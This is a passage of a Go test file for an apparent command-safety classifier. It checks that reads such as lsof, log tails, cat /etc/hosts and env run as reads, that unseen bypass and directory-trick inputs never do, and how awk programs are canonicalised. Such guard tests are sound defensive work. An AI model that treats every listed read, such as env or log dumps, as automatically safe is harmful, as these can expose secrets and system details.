	"lsof -nP -iTCP", "lsof -i :80", "vmstat 1 2", "journalctl -b -1 -n 20", "cat /var/log/nginx/*.log", "tail -n 5 /var/log/app/*.log", "grep error /var/log/app.log 2>/dev/null", "cat /etc/hosts 2>&1", "sleep 2", "true", "cat < /etc/hosts", "nice -n 10 du -sh /srv", "timeout 10 find /srv -name x", "env", "tr a-z A-Z < /etc/hostname", "seq 1 10",
}

func TestBypassesNeverRunAsARead(t *testing.T) {
	h := open(t, offline)
	for _, text := range bypasses {
		if f, err := facts(t, h, map[string]any{"command": text}); err == nil && runsAsRead(f) {
			t.Errorf("%q runs as a read: %+v", text, f)
		}
	}
}

func TestTricksWithADirectoryNeverRunAsARead(t *testing.T) {
	h := open(t, offline)
	for _, args := range vectors {
		if f, err := facts(t, h, args); err == nil && runsAsRead(f) {
			t.Errorf("%v runs as a read: %+v", args, f)
		}
	}
}

func TestCommonReadsRunAsReads(t *testing.T) {
	h := open(t, offline)
	for _, text := range commonReads {
		if f, err := facts(t, h, map[string]any{"command": text}); err != nil {
			t.Errorf("%q: %v", text, err)
		} else if !runsAsRead(f) {
			t.Errorf("%q does not run as a read: %s, %v %v", text, f.Effect, f.Unknown, f.Objects)
		}
	}
}

// What awk reads is what was understood: a program is written again from its tokens, and that changes nothing further.
func TestAwkProgramsAreWrittenAgain(t *testing.T) {
	for text, want := range map[string]string{
		"{print $1,$NF}": "{ print $1 , $NF }", "NR==1||!/a b/": "NR == 1 || ! /a b/", `$9~/^=[0-9]/{print "x"$1;}`: `$9 ~ /^=[0-9]/ { print "x" $1 ; }`,
		"/=/": "/[=]/", "NR==1 # x": "", "": "", "{print -1}": "", "{print $1 > 2}": "", "/[/]/": "", "/a/,/b/": "",
	} {
		got, err := readAwk(text)
		if got != want || (err == nil) != (want != "") {
			t.Errorf("%q: got %q %v, want %q", text, got, err, want)
		}
		if again, _ := readAwk(got); err == nil && again != got {
			t.Errorf("%q became %q", got, again)
		}
	}
	if f, err := facts(t, open(t, offline), argv("timeout", "-k", "1", "5", "ls")); err != nil || !strings.Contains(f.Text, "[1] --foreground\n  [2] -k") {
		t.Errorf("what runs is %v %v", f, err) // without it timeout leaves the process group that a cancelled call ends
	}
	f, err := facts(t, open(t, offline), argv("nice", "awk", "{print $1}", "/etc/hosts"))
	if err != nil || !strings.Contains(f.Text, "[1] /usr/bin/awk\n  [2] { print $1 }\n") {
		t.Errorf("what runs is %v %v", f, err)
	}
}
